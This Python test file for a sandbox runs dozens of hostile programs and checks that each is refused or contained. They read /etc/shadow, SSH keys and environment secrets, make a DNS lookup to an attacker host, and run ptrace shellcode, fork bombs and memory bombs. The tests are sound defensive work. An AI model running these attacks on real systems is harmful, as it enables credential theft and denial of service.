"""What a hostile program in the sandbox tries, and what becomes of it.

`CASES` are programs that try one thing; each must be refused, with the reason that it sees. Those that are bounded or
ended rather than refused, and those in which the host has a part, are tests of their own, with an id and a line that
says what is tried, as a docstring.
"""

# ruff: noqa: E501 the cases are a table

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from codefactory.pipelines.sandbox import Completed, Limits, toolchain

if TYPE_CHECKING:
    from collections.abc import Iterator

    from codefactory.pipelines.sandbox import Sandbox

PYTHON = toolchain.interpreter()
NEEDS = toolchain.needed(PYTHON)
PRELUDE = """
import ctypes, errno, fcntl, mmap, os, platform, resource, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == 'aarch64'
def call(x86, arm, *arguments):
    'A system call by its number; raises OSError.'
    result = libc.syscall(arm if ARM else x86, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""
QUICK = Limits(wall_s=20, memory_bytes=256_000_000, processes=40)


async def attack(
    sandbox: Sandbox,
    code: str,
    *,
    limits: Limits = QUICK,
    read: tuple[Path, ...] = (),
    write: tuple[Path, ...] = (),
    environment: dict[str, str] | None = None,
    **more: str,
) -> Completed:
    environment = {**(environment or {}), **more}
    return await sandbox.run(
        [str(PYTHON), "-I", "-c", PRELUDE + textwrap.dedent(code)],
        read=(*NEEDS, *read),
        write=write,
        environment=environment,
        limits=limits,
    )


@dataclass(frozen=True)
class Case:
    id: str
    what: str
    code: str
    """Prints ESCAPED if it gets what it wants; `{outside}` is a folder of the user's with the file `secret`."""
    refused: str
    """The errors that it may see: names of `errno`."""


CASES = [
    Case(
        "SB01",
        "connects to a server of the host by TCP",
        "socket.create_connection(('127.0.0.1', {port}), 2)",
        "ECONNREFUSED EACCES EAFNOSUPPORT",
    ),
    Case(
        "SB02",
        "sends a datagram to the internet",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        "ENETUNREACH EAFNOSUPPORT",
    ),
    Case(
        "SB03",
        "connects to the internet by IPv6",
        "socket.create_connection(('2001:4860:4860::8888', 53), 2)",
        "ENETUNREACH EADDRNOTAVAIL EAFNOSUPPORT",
    ),
    Case(
        "SB04",
        "connects to a UNIX socket of the user's",
        "socket.socket(socket.AF_UNIX).connect('{outside}/socket')",
        "ENOENT EAFNOSUPPORT",
    ),
    Case(
        "SB05",
        "connects to an abstract UNIX socket",
        "socket.socket(socket.AF_UNIX).connect('\\0{abstract}')",
        "ECONNREFUSED EAFNOSUPPORT",
    ),
    Case("SB06", "opens a raw packet socket", "socket.socket(17, socket.SOCK_RAW)", "EAFNOSUPPORT"),
    Case("SB07", "talks to the hypervisor by AF_VSOCK", "socket.socket(40, socket.SOCK_STREAM)", "EAFNOSUPPORT"),
    Case("SB08", "reads the user's files", "print(open('{outside}/secret').read(), 'ESCAPED')", "ENOENT EACCES"),
    Case(
        "SB09", "lists the user's home", "set(os.listdir('{home}')) <= {bound} and sys.exit('EACCES')", "ENOENT EACCES"
    ),
    Case("SB10", "reads /etc/shadow", "open('/etc/shadow').read()", "ENOENT EACCES"),
    Case(
        "SB11",
        "reads the host's users",
        "assert '{user}' in open('/etc/passwd').read() or sys.exit('EACCES')",
        "EACCES",
    ),
    Case("SB12", "reads SSH keys", "os.listdir('{home}/.ssh')", "ENOENT EACCES"),
    Case("SB13", "writes to the user's folder", "open('{outside}/new', 'w')", "ENOENT EACCES EROFS"),
    Case("SB14", "writes to /usr", "open('/usr/escaped', 'w')", "EROFS EACCES"),
    Case("SB15", "writes to /etc", "open('/etc/ld.so.preload', 'w')", "EROFS EACCES"),
    Case("SB16", "writes to what it may only read", "open('{readable}/new', 'w')", "EROFS EACCES"),
    Case("SB17", "leaves its folder by `..`", "open('{writable}/../outside/new', 'w')", "ENOENT EACCES EROFS"),
    Case("SB18", "writes through a symlink that leads out", "open('{writable}/link', 'w')", "ENOENT EACCES EROFS"),
    Case(
        "SB19",
        "reads through a symlink that it makes",
        "os.symlink('{outside}/secret', '{writable}/own'); open('{writable}/own').read()",
        "ENOENT EACCES",
    ),
    Case(
        "SB20",
        "makes a hard link to what it may only read, and writes to that",
        "os.link('{readable}/file', '{writable}/hard'); open('{writable}/hard', 'w')",
        "EXDEV EACCES EPERM",
    ),
    Case(
        "SB21",
        "moves what it may only read",
        "os.rename('{readable}/file', '{writable}/moved')",
        "EXDEV EACCES EROFS EPERM",
    ),
    Case("SB22", "changes the mode of what it may only read", "os.chmod('{readable}/file', 0o777)", "EROFS EPERM"),
    Case("SB23", "changes the times of what it may only read", "os.utime('{readable}/file', (0, 0))", "EROFS EPERM"),
    Case("SB24", "changes the mode of the user's files", "os.chmod('{outside}/secret', 0o777)", "ENOENT EPERM"),
    Case(
        "SB25",
        "makes a set-user-ID file",
        "os.close(os.open('{writable}/suid', os.O_CREAT | os.O_WRONLY)); os.chmod('{writable}/suid', 0o4755)",
        "EPERM",
    ),
    Case(
        "SB26",
        "makes a set-user-ID file at once",
        "os.umask(0); os.open('{writable}/suid', os.O_CREAT | os.O_WRONLY, 0o4755)",
        "EPERM",
    ),
    Case("SB27", "makes a device", "os.mknod('{writable}/disk', 0o060600, os.makedev(8, 0))", "EPERM EACCES"),
    Case(
        "SB28",
        "opens a disk",
        "os.open(sorted(set({disks}))[0], os.O_RDONLY) if {disks} else sys.exit('ENOENT')",
        "ENOENT EACCES",
    ),
    Case("SB29", "opens the kernel's memory", "os.open('/dev/mem', os.O_RDONLY)", "ENOENT EACCES"),
    Case("SB30", "opens the terminal", "os.open('/dev/tty', os.O_RDWR)", "ENXIO EACCES"),
    Case("SB31", "types into the terminal (TIOCSTI)", "fcntl.ioctl(0, 0x5412, b'x')", "EPERM"),
    Case("SB32", "mounts", "call(165, 40, b'none', b'/tmp', b'tmpfs', 0, None)", "EPERM"),
    Case("SB33", "unmounts", "call(166, 39, b'/usr', 2)", "EPERM"),
    Case("SB34", "makes a user namespace", "call(272, 97, 0x10000000)", "EPERM"),
    Case("SB35", "clones itself into a namespace", "call(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)", "EPERM"),
    Case("SB36", "clones by clone3, whose flags no filter sees", "call(435, 435, None, 0)", "ENOSYS"),
    Case("SB37", "enters the namespaces of another", "call(308, 268, 0, 0)", "EPERM"),
    Case("SB38", "changes its root", "os.chroot('/tmp')", "EPERM"),
    Case("SB39", "opens files by handle", "call(304, 265, -100, None, 0)", "EPERM"),
    Case("SB40", "traces a process", "call(101, 117, 16, {pid}, 0, 0)", "EPERM"),
    Case("SB41", "lets itself be traced", "call(101, 117, 0, 0, 0, 0)", "EPERM"),
    Case("SB42", "reads the memory of a process", "call(310, 270, {pid}, None, 0, None, 0, 0)", "EPERM"),
    Case("SB43", "takes an open file of a process", "call(438, 438, 0, 0, 0)", "EPERM"),
    Case("SB44", "reads what other processes were started with", "open('/proc/{pid}/environ').read()", "ENOENT EACCES"),
    Case("SB45", "ends our process", "os.kill({pid}, signal.SIGKILL)", "ESRCH EPERM"),
    Case("SB46", "reads the kernel's keys", "call(250, 219, 0, -3, 0)", "EPERM"),
    Case("SB47", "adds a key", "call(248, 217, b'user', b'x', b'y', 1, -3)", "EPERM"),
    Case("SB48", "loads a BPF program", "call(321, 280, 0, None, 0)", "EPERM"),
    Case("SB49", "measures the kernel (perf)", "call(298, 241, None, 0, -1, -1, 0)", "EPERM"),
    Case("SB50", "handles page faults (userfaultfd)", "call(323, 282, 0)", "EPERM"),
    Case("SB51", "uses io_uring, which no filter sees", "call(425, 425, 8, None)", "ENOSYS"),
    Case("SB52", "loads a kernel", "call(246, 104, 0, 0, None, 0)", "EPERM"),
    Case("SB53", "sets the clock", "time.clock_settime(time.CLOCK_REALTIME, 0)", "EPERM"),
    Case("SB54", "makes memory that no limit counts (memfd)", "os.memfd_create('x')", "ENOSYS"),
    Case("SB55", "leaves shared memory behind (System V)", "call(29, 194, 0, 4096, 0o1600)", "EPERM"),
    Case(
        "SB56",
        "reaches for the kernel's settings",
        "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)",
        "EROFS EACCES",
    ),
    Case("SB57", "restarts the machine (sysrq)", "open('/proc/sysrq-trigger', 'w').write('h')", "EROFS EACCES ENOENT"),
    Case(
        "SB58", "raises its own limits", "resource.setrlimit(resource.RLIMIT_DATA, (2**40, 2**40))", "EPERM ValueError"
    ),
    Case("SB59", "becomes another user", "os.setuid(12345)", "EPERM EINVAL"),
]


@dataclass
class Host:
    """What the host has that a program would like."""

    outside: Path
    readable: Path
    writable: Path
    port: int

    def untouched(self) -> bool:
        secret = self.outside / "secret"
        names = {p.name for p in self.outside.iterdir()}
        return (
            names == {"secret", "socket", "target"}
            and secret.read_text() == "the secret"
            and secret.stat().st_mode & 0o777 == 0o600
            and (self.outside / "target").read_text() == "before"
            and [p.name for p in self.readable.iterdir()] == ["file"]
            and (self.readable / "file").read_text() == "readable"
            and (self.readable / "file").stat().st_mode & 0o777 == 0o644
        )


DISKS = [str(p) for p in Path("/dev").glob("[sv]d?")]
ABSTRACT = f"codefactory-test-{os.getpid()}"


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    outside, readable, writable = (tmp_path / name for name in ("outside", "readable", "writable"))
    for folder in (outside, readable, writable):
        folder.mkdir()
    (outside / "secret").write_text("the secret")
    (outside / "secret").chmod(0o600)
    (outside / "target").write_text("before")
    (readable / "file").write_text("readable")
    (readable / "file").chmod(0o644)
    (writable / "link").symlink_to(outside / "target")
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as local:
        local.bind(str(outside / "socket"))
        local.listen()
        with socket.socket(socket.AF_UNIX) as abstract:
            abstract.bind(f"\0{ABSTRACT}")
            abstract.listen()
            yield Host(outside, readable, writable, server.getsockname()[1])


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
async def test_it_is_refused(sandbox: Sandbox, host: Host, case: Case) -> None:
    home = Path.home()
    values = {
        "outside": host.outside,
        "readable": host.readable,
        "writable": host.writable,
        "port": host.port,
        "abstract": ABSTRACT,
        "home": home,
        "user": home.name,
        "pid": os.getpid(),
        "bound": {p.relative_to(home).parts[0] for p in (*NEEDS, host.readable) if p.is_relative_to(home)} or {""},
        "disks": DISKS,
    }
    code = case.code
    for name, value in values.items():
        code = code.replace("{" + name + "}", str(value))
    program = f"""
try:
    {code}
except OSError as error:
    print('refused:', errno.errorcode.get(error.errno))
except ValueError as error:
    print('refused: ValueError')
else:
    print('ESCAPED')
"""
    done = await attack(sandbox, program, read=(host.readable,), write=(host.writable,))
    said = (done.stdout + done.stderr).decode()
    assert "ESCAPED" not in said
    reasons = {word for word in said.split() if word.isupper() or word == "ValueError"}
    assert reasons & set(case.refused.split()), f"{case.what}: {said}"
    assert host.untouched()


async def test_sb60_names_are_not_resolved(sandbox: Sandbox) -> None:
    """SB60: asks the domain name system, so as to tell somebody something."""
    done = await attack(sandbox, "print(socket.getaddrinfo('secret.attacker.example', 80))")
    assert done.returncode == 1
    assert b"gaierror" in done.stderr or b"PermissionError" in done.stderr


async def test_sb61_no_capability_is_left(sandbox: Sandbox) -> None:
    """SB61: uses the capabilities of root, or gets them from a set-user-ID program."""
    code = """
    header, data = struct.pack('=Ii', 0x20080522, 0), ctypes.create_string_buffer(24)
    call(125, 90, header, data)
    print('capabilities', any(data.raw), 'new privileges', libc.prctl(39, 0, 0, 0, 0) != 1)
    """
    assert (await attack(sandbox, code)).stdout == b"capabilities False new privileges False\n"


async def test_sb62_the_environment_is_not_inherited(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    """SB62: reads the secrets in our environment."""
    monkeypatch.setenv("OPENAI_API_KEY", "hidden-value")
    code = """
    print(sorted(set(os.environ) - {'PWD'}), 'hidden-value' in str(os.environ))
    try:
        print(b'hidden-value' in open('/proc/self/environ', 'rb').read())
    except OSError:
        print(False)
    """
    done = await attack(sandbox, code, GIVEN="1")
    assert done.stdout.split(b"\n")[:2] == [
        b"['GIVEN', 'HOME', 'LANG', 'PATH', 'TMPDIR'] False",
        b"False",
    ]


async def test_sb63_open_files_are_not_inherited(sandbox: Sandbox, host: Host) -> None:
    """SB63: reads from files that we have open."""
    with (host.outside / "secret").open("rb") as file:
        os.set_inheritable(file.fileno(), True)
        code = """
        def is_open(number):
            try:
                return bool(os.fstat(number))
            except OSError:
                return False
        print([number for number in range(1024) if is_open(number)])
        """
        assert (await attack(sandbox, code)).stdout == b"[0, 1, 2]\n"


async def test_sb64_a_fork_bomb_is_contained(sandbox: Sandbox) -> None:
    """SB64: forks until the machine has no process left."""
    code = """
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    """
    started = time.perf_counter()
    done = await attack(sandbox, code, limits=replace(QUICK, wall_s=3), MARK=mark())
    assert done.limit in ("processes", "wall", "cpu")
    assert time.perf_counter() - started < 30
    assert not left()


async def test_sb65_a_memory_bomb_is_contained(sandbox: Sandbox) -> None:
    """SB65: takes memory until the machine has none left."""
    done = await attack(sandbox, "b = []\nwhile True: b.append(bytearray(10_000_000))")
    assert done.limit == "memory" or b"MemoryError" in done.stderr


async def test_sb66_a_memory_bomb_of_many_processes_is_contained(sandbox: Sandbox) -> None:
    """SB66: takes, in many processes, memory that each alone might have."""
    code = """
    for _ in range(20):
        if not os.fork():
            break
    b = bytearray(os.urandom(1000)) * 60_000
    time.sleep(30)
    """
    assert (await attack(sandbox, code, MARK=mark())).limit == "memory"
    assert not left()


async def test_sb67_a_bomb_of_shared_memory_is_contained(sandbox: Sandbox) -> None:
    """SB67: takes shared memory, which the kernel does not count as a process's own."""
    code = """
    m = []
    while True:
        m.append(mmap.mmap(-1, 20_000_000))
        m[-1].write(b'x' * 20_000_000)
    """
    done = await attack(sandbox, code)
    assert done.limit == "memory" or done.signal is not None or b"Error" in done.stderr


async def test_sb68_the_temporary_folder_is_bounded(sandbox: Sandbox) -> None:
    """SB68: fills the disk through the temporary folder."""
    code = """
    for number in range(100):
        with open(f"{os.environ['TMPDIR']}/{number}", 'wb') as file:
            file.write(b'x' * 5_000_000)
    print('ESCAPED')
    """
    done = await attack(sandbox, code, limits=replace(QUICK, temporary_bytes=50_000_000))
    assert done.limit == "disk" or b"No space left" in done.stderr
    assert b"ESCAPED" not in done.stdout


async def test_sb69_writable_folders_are_bounded(sandbox: Sandbox, host: Host) -> None:
    """SB69: fills the disk through a folder that it may write in."""
    code = f"""
    for number in range(10_000):
        with open(f'{host.writable}/{{number}}', 'wb') as file:
            file.write(b'x' * 5_000_000)
        time.sleep(0.005)
    print('ESCAPED')
    """
    done = await attack(sandbox, code, write=(host.writable,), limits=replace(QUICK, disk_bytes=60_000_000))
    assert done.limit == "disk"


async def test_sb70_a_file_is_bounded(sandbox: Sandbox, host: Host) -> None:
    """SB70: writes one file without end, sparse or not."""
    for code in (
        "open('f', 'wb').write(b'x' * 3_000_000)",
        "os.truncate(os.open('f', os.O_CREAT | os.O_RDWR), 10**15)",
    ):
        done = await attack(
            sandbox,
            f"os.chdir('{host.writable}')\n{code}",
            write=(host.writable,),
            limits=replace(QUICK, file_bytes=2_000_000),
        )
        assert b"File too large" in done.stderr
        assert sum(p.lstat().st_size for p in host.writable.iterdir()) < 2_100_000


async def test_sb71_dev_and_root_cannot_be_filled(sandbox: Sandbox) -> None:
    """SB71: fills memory through files in /dev, /dev/shm or the root."""
    code = """
    for folder in ('/dev', '/dev/shm', '/', '/run', '/var/tmp'):
        try:
            with open(folder + '/codefactory-test', 'wb') as file:
                file.write(b'x' * 90_000_000)
            print(folder, 'ESCAPED')
        except OSError as error:
            print(folder, errno.errorcode[error.errno])
    """
    done = await attack(sandbox, code)
    assert done.stdout.count(b"\n") == 5
    assert b"ESCAPED" not in done.stdout


async def test_sb72_huge_output_is_cut(sandbox: Sandbox) -> None:
    """SB72: prints without end."""
    done = await attack(
        sandbox, "while True: os.write(1, b'x' * 65_536)", limits=replace(QUICK, output_bytes=1_000_000)
    )
    assert done.limit == "output"
    assert len(done.stdout) == 1_000_000


async def test_sb73_the_wall_clock_cannot_be_ignored(sandbox: Sandbox) -> None:
    """SB73: ignores every signal, and stays."""
    code = """
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True: time.sleep(1)
    """
    done = await attack(sandbox, code, limits=replace(QUICK, wall_s=1), MARK=mark())
    assert done.limit == "wall"
    assert done.wall_s < 10
    assert not left()


async def test_sb74_processor_time_is_counted_over_all_processes(sandbox: Sandbox) -> None:
    """SB74: uses, in many processes, processor time that each alone might have."""
    code = """
    for _ in range(4): os.fork() or os.nice(0)
    while True: pass
    """
    done = await attack(sandbox, code, limits=replace(QUICK, cpu_s=2, wall_s=60), MARK=mark())
    assert done.limit == "cpu"
    assert not left()


async def test_sb75_nothing_stays_behind(sandbox: Sandbox) -> None:
    """SB75: leaves a daemon: twice forked, in a session of its own, deaf to signals, its output closed."""
    code = """
    if not os.fork():
        os.setsid()
        if not os.fork():
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            for number in range(3):
                os.close(number)
            time.sleep(60)
        os._exit(0)
    os.wait()
    """
    started = time.perf_counter()
    done = await attack(sandbox, code, MARK=mark())
    assert done.returncode == 0
    assert time.perf_counter() - started < 15
    assert not left()


async def test_sb76_a_daemon_that_holds_the_output_does_not_keep_us(sandbox: Sandbox) -> None:
    """SB76: leaves a daemon that holds the output open, so that we wait for ever."""
    started = time.perf_counter()
    done = await attack(sandbox, "if not os.fork():\n    os.setsid()\n    time.sleep(60)", MARK=mark())
    assert done.returncode == 0
    assert time.perf_counter() - started < 15
    assert not left()


async def test_sb77_no_zombie_is_left(sandbox: Sandbox) -> None:
    """SB77: leaves zombies, until there are no numbers for processes."""
    before = zombies()
    code = """
    for _ in range(30):
        if not os.fork(): os._exit(0)
    os.kill(os.getpid(), signal.SIGKILL)
    """
    done = await attack(sandbox, code)
    assert done.signal == signal.SIGKILL
    for _ in range(100):
        if not zombies() - before:
            break
        await asyncio.sleep(0.02)
    assert not zombies() - before


async def test_sb78_signals_to_everybody_reach_nobody(sandbox: Sandbox) -> None:
    """SB78: ends every process that there is, its parents first."""
    code = """
    for target in (-1, 0, os.getppid(), os.getsid(0), -os.getpgid(0)):
        if target not in (os.getpid(), -os.getpid(), 0):
            try:
                os.kill(target, signal.SIGTERM)
            except OSError:
                pass
    print('still here')
    """
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE) as bystander:  # noqa: ASYNC220 started, not waited for
        done = await attack(sandbox, code)
        assert bystander.poll() is None
        bystander.communicate(b"\n")
    assert bystander.returncode == 0
    assert done.stdout in (b"still here\n", b"")


async def test_sb79_a_symlink_that_is_swapped_leads_nowhere(sandbox: Sandbox, host: Host) -> None:
    """SB79: swaps a folder for a symlink to the outside while we, or it, write there."""
    code = f"""
    os.chdir('{host.writable}')
    os.mkdir('real')
    pid = os.fork()
    if not pid:
        while True:
            try:
                os.symlink('{host.outside}', 'swap'); os.unlink('swap'); os.rename('real', 'swap'); os.rename('swap', 'real')
            except OSError:
                pass
    for _ in range(3000):
        try:
            open('swap/target', 'w').write('after')
            open('swap/new', 'w').write('after')
        except OSError:
            pass
    os.kill(pid, signal.SIGKILL)
    """
    await attack(sandbox, code, write=(host.writable,))
    assert host.untouched()


async def test_sb80_cancelling_ends_everything(sandbox: Sandbox) -> None:
    """SB80: goes on after the run was cancelled."""
    code = "os.fork(); os.setsid() if os.getpid() % 2 else 0; print('up', flush=True); time.sleep(60)"
    up = asyncio.Event()
    task = asyncio.ensure_future(
        sandbox.run(
            [str(PYTHON), "-I", "-c", PRELUDE + code],
            read=NEEDS,
            environment={"MARK": mark()},
            on_output=lambda _stream, _data: up.set(),
        )
    )
    await asyncio.wait_for(up.wait(), 30)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not left()


OWNER = """
import asyncio, os, sys
sys.path[:0] = sys.argv[1].split(os.pathsep)
sys.path.insert(0, sys.argv[2])
from security_mechanisms import MECHANISMS
sandbox = MECHANISMS[sys.argv[3]]()
print('ready', flush=True)
asyncio.run(sandbox.run(['/bin/sleep', '61'], environment={'MARK': sys.argv[4]}))
"""


async def test_sb81_it_does_not_outlive_us(sandbox: Sandbox, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    """SB81: goes on after Code Factory itself was killed."""
    name = request.node.callspec.params["sandbox"]
    conftest = Path(__file__).with_name("conftest.py")
    (tmp_path / "security_mechanisms.py").write_bytes(conftest.read_bytes())
    path = os.pathsep.join(sys.path)
    command = [sys.executable, "-c", OWNER, path, str(tmp_path), name, mark()]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as owner:  # noqa: ASYNC220 started, not waited for
        assert await until(lambda: left())
        owner.kill()
    assert await until(lambda: not left())


async def test_sb82_system_calls_of_another_architecture_end_it(sandbox: Sandbox) -> None:
    """SB82: makes system calls by numbers that the filter does not look at (x32, 32 bits)."""
    if os.uname().machine != "x86_64":
        pytest.skip("x86_64 only")
    code = """
    try:
        call(0x40000000 + 101, 0, 0, 0, 0, 0)
    except OSError as error:
        print('x32', errno.errorcode[error.errno], flush=True)
    # mov eax, 26 (ptrace); xor ebx, ebx; int 0x80; ret
    code = bytes.fromhex('b81a00000031dbcd80c3')
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    print('ESCAPED')
    """
    done = await attack(sandbox, code)
    assert done.stdout == b"x32 ENOSYS\n"
    assert done.signal in (signal.SIGSYS, signal.SIGSEGV)


async def test_sb83_threads_count_as_processes(sandbox: Sandbox) -> None:
    """SB83: starts threads without end."""
    code = """
    import threading
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    print('ESCAPED')
    """
    done = await attack(sandbox, code)
    assert b"ESCAPED" not in done.stdout
    assert b"can't start new thread" in done.stderr or done.limit in ("processes", "memory")


_count = 0


def mark() -> str:
    """In the environment of a program, so that it is found again."""
    global _count
    _count += 1
    return f"codefactory-{os.getpid()}-{_count}"


def left() -> list[int]:
    """Processes of this machine with the last mark, the dead ones not counted."""
    wanted = f"MARK=codefactory-{os.getpid()}-{_count}".encode()
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError, ValueError):
            if wanted in (entry / "environ").read_bytes().split(b"\0") and int(entry.name) != os.getpid():
                found.append(int(entry.name))
    return found


def zombies() -> set[int]:
    """Dead children of ours that nobody has waited for."""
    found: set[int] = set()
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError):
            state, parent = entry.read_text().rpartition(")")[2].split()[:2]
            if state == "Z" and int(parent) == os.getpid():
                found.add(int(entry.parent.name))
    return found


async def until(condition: object) -> bool:
    assert callable(condition)
    for _ in range(500):
        if condition():
            return True
        await asyncio.sleep(0.02)
    return False
